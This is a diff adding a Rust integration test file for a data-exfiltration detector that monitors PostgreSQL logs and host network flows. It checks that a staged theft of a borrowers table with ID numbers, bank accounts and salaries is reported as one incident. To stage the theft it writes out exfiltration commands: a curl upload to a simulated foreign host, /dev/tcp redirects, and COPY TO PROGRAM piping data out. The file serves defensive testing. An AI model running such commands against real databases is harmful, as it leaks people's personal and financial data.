@@ -1,0 +1,154 @@
+//! The whole theft on one host: a real PostgreSQL is read by a person, the result is packed and sent abroad. One incident.
+
+use super::postgres::{Mode, Postgres};
+use super::servers::{command_as, directory_for};
+use super::world::World;
+use crate::support::agent::{Agent, Setup};
+use crate::support::{Scratch, now, until};
+use serde_json::Value;
+use std::path::Path;
+use std::time::Duration;
+
+/// What the store of the tests holds.
+const CATEGORIES: &str = "\"iin\", \"name\", \"phone_mobile\", \"bank_account\", \"salary\"";
+
+const LIMIT: Duration = Duration::from_secs(60);
+
+/// An agent that reads the server's log and the kernel.
+fn watching(server: &Postgres, more: &str) -> Agent {
+    let agent = Setup::new("theft")
+        .source("pg", "postgresql_csvlog", &server.logs().join("*.csv"), "")
+        .with(&format!("[[source]]\nname = \"host\"\nsensor = {{}}\n{more}"))
+        .start();
+    until("the sensor works", LIMIT, || {
+        (agent.setup.metric("kuzet_source_readable{source=\"host\"}") == Some(1.0)
+            && agent.setup.metric("kuzet_records_seen_total{source=\"host\"}").is_some_and(|seen| seen > 0.0))
+        .then_some(())
+    });
+    agent
+}
+
+/// Runs a shell script as a person without rights, in a login session of its own.
+fn person(user: &str, script: &str, server: &Postgres, folder: &Path) {
+    directory_for(user, folder, 0o700);
+    let mut command = command_as(user, Path::new("/usr/bin/setsid"));
+    command.args(["--wait", "bash", "-c", script]).current_dir(folder);
+    let psql = format!("psql -X -q -h 127.0.0.1 -p {} -U analyst -d mfo", server.port());
+    command.env("PGPASSWORD", "analyst-pw").env("PSQL", psql);
+    let output = command.output().expect("the script runs");
+    assert!(output.status.success(), "{script}: {}", String::from_utf8_lossy(&output.stderr));
+}
+
+/// Incidents of the person and of the role: others may work on this machine.
+fn own(agent: &Agent) -> Vec<Value> {
+    let own = |incident: &Value| ["analyst", "games"].iter().any(|user| incident["user.name"] == *user);
+    agent.setup.incidents().into_iter().filter(own).collect()
+}
+
+fn chained(agent: &Agent) -> Option<Value> {
+    let is = |incident: &Value| incident["kuzet.transfers"]["flows"].as_array().is_some_and(|flows| !flows.is_empty());
+    own(agent).into_iter().find(is)
+}
+
+#[test]
+fn read_packed_and_sent_abroad_is_one_critical_incident_with_the_whole_way() {
+    let server = Postgres::start(Mode::Pgaudit);
+    let world = World::new();
+    let abroad = &world.abroad;
+    let agent = watching(&server, "");
+    let uploads = world.https(abroad, &agent.setup.scratch);
+    let folder = server.path().join("person");
+    // The connection goes on while the incident is there already.
+    let script = format!(
+        "$PSQL -c \"COPY borrowers TO STDOUT\" > list.csv && gzip list.csv && \
+         curl -sSk --limit-rate 60k -T list.csv.gz https://{abroad}/list && true"
+    );
+    let told = std::thread::scope(|scope| {
+        let thief = scope.spawn(|| person("games", &script, &server, &folder));
+        let told = until("the chain is told", LIMIT, || chained(&agent).map(|_| now()));
+        assert!(!thief.is_finished(), "it is told while the upload runs");
+        thief.join().expect("the script ends");
+        told
+    });
+    let (began, bytes) = uploads.recv_timeout(LIMIT).expect("the upload came");
+    println!("told {:?} after the first byte; {bytes} bytes came", told.saturating_duration_since(began));
+    let incident = until("the end is told", LIMIT, || {
+        chained(&agent)
+            .filter(|incident| incident["kuzet.transfers"]["flows"][0]["destination.bytes"].as_u64() > Some(bytes))
+    });
+    assert_eq!(incident["kuzet.severity"], "critical", "{incident}");
+    assert_eq!((&incident["user.name"], &incident["kuzet.store"]["name"]), (&"analyst".into(), &"borrowers".into()));
+    let kinds = incident["kuzet.kinds"].to_string();
+    assert!(kinds.contains("exfiltration") && kinds.contains("export"), "{kinds}");
+    let people = &incident["kuzet.people"];
+    assert_eq!(people["at_most"], 10_000, "{people}");
+
+    let flows = &incident["kuzet.transfers"]["flows"];
+    assert_eq!(flows.as_array().map(Vec::len), Some(1), "{flows}");
+    let flow = &flows[0];
+    assert_eq!((&flow["destination.address"], &flow["destination.port"]), (&abroad.as_str().into(), &443.into()));
+    assert_eq!((&flow["kuzet.place.verdict"], &flow["kuzet.joined"]), (&"foreign-unlisted".into(), &"session".into()));
+    assert_eq!((&flow["process"]["process.name"], &flow["process"]["user.name"]), (&"curl".into(), &"games".into()));
+    let sent = flow["destination.bytes"].as_u64().expect("bytes");
+    assert!(sent < bytes + bytes / 50 + 4_096, "{sent} bytes of {bytes}: what TLS adds is little");
+    let steps: Vec<&str> =
+        flow["kuzet.steps"].as_array().into_iter().flatten().filter_map(|step| step["process.name"].as_str()).collect();
+    assert_eq!(steps, ["psql", "gzip"], "{flow}");
+
+    let all = own(&agent);
+    assert_eq!(all.len(), 1, "one incident: {all:#?}");
+    agent.setup.accounted("pg");
+    agent.setup.accounted("host");
+}
+
+#[test]
+fn what_a_server_account_or_a_dump_sends_abroad_is_told_and_a_registered_recipient_is_not() {
+    let server = Postgres::start(Mode::Pgaudit);
+    let world = World::new();
+    let (abroad, home) = (&world.abroad, &world.home);
+    let scratch = Scratch::new("recipients");
+    let register = scratch.join("recipients.toml");
+    let entry = format!(
+        "[[recipient]]\nname = \"Credit bureau\"\naddress = \"{abroad}\"\nport = 8443\ncountry = \"DE\"\n\
+         contract = \"No. 1\"\nbasis = \"law\"\ncategories = [{CATEGORIES}]\nowner = \"credit department\"\n\
+         expires = 2099-01-01\n"
+    );
+    std::fs::write(&register, entry).expect("own file");
+    let agent = watching(&server, &format!("[place]\nrecipients = \"{}\"\n", register.display()));
+    for listener in [world.listen(abroad, 8443), world.listen(abroad, 9000), world.listen(home, 9000)] {
+        std::thread::spawn(move || {
+            for mut stream in listener.incoming().flatten() {
+                let _ = std::io::copy(&mut stream, &mut std::io::sink());
+            }
+        });
+    }
+    let folder = server.path().join("person");
+    let read = "$PSQL -c \"COPY borrowers TO STDOUT\" > list.csv";
+    // Who may have it gets it, and in Kazakhstan nobody else is asked for a few bytes.
+    person(
+        "lp",
+        &format!("{read}; cat list.csv > /dev/tcp/{abroad}/8443; echo hello > /dev/tcp/{home}/9000; true"),
+        &server,
+        &folder,
+    );
+    let export =
+        until("the export is told", LIMIT, || own(&agent).into_iter().find(|one| one.to_string().contains("export")));
+    assert!(export["kuzet.transfers"].is_null(), "{export}");
+
+    // The server's own account: a program that COPY … TO PROGRAM starts is a child of the server's process.
+    let send = format!("COPY borrowers TO PROGRAM 'bash -c \"cat > /dev/tcp/{abroad}/9000\"'");
+    server.admin("mfo", &send);
+    let traffic = until("the server's account is told", LIMIT, || {
+        let is = |incident: &Value| incident.to_string().contains("service_traffic");
+        agent
+            .setup
+            .incidents()
+            .into_iter()
+            .find(|incident| is(incident) && incident.to_string().contains(abroad.as_str()))
+    });
+    assert_eq!((&traffic["user.name"], &traffic["kuzet.severity"]), (&"postgres".into(), &"high".into()), "{traffic}");
+    assert!(
+        traffic["kuzet.headline"].as_str().is_some_and(|text| text.contains("sends out of Kazakhstan")),
+        "{traffic}"
+    );
+}
